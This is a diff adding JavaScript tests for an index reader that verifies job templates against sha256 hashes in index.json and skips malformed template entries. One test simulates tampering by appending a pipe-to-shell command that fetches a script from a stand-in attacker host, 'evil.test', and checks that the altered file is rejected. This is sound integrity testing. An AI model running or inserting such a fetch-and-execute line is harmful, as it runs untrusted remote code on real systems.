@@ -335,3 +335,24 @@ test("index reading: prereq's callbacks of an entry with an odd name or no event
   };
   assert.deepEqual([...firstCallbacks(data, { first: "first", other: "other" })], ["2,0"]);
 });
+
+/* A template's commands run in every job started from it: the root vouches for its bytes, as for an item's. */
+test("reader/a job template is taken only when its bytes match the root's sha256", async () => {
+  const index = await Index.load("BASE", recordingReader().read);
+  const [template] = index.templates();
+  assert.equal(template.name, "mnist-training");
+  assert.match(await index.templateText(template), /mnist-data/);
+  const tampered = recordingReader({ change: (path, bytes) =>
+    (path === template.path ? Buffer.concat([bytes, Buffer.from("      - curl https://evil.test/x | sh\n")]) : bytes) });
+  const served = await Index.load("BASE", tampered.read);
+  await assert.rejects(served.templateText(served.templates()[0]),
+    (error) => error instanceof PrereqError && error.message === `${template.path} does not match the sha256 in index.json`);
+  await assert.rejects(index.templateText({ ...template, sha256: undefined }), /lists the template mnist-training without its sha256/);
+});
+
+test("reader/a root's templates that are no objects naming a file are passed over", async () => {
+  const index = await Index.load("BASE", recordingReader().read);
+  const listed = index.root.templates[0];
+  index.root.templates = [null, 7, { name: "no-path" }, listed, { name: 1, path: "x" }];
+  assert.deepEqual(index.templates(), [listed]);
+});
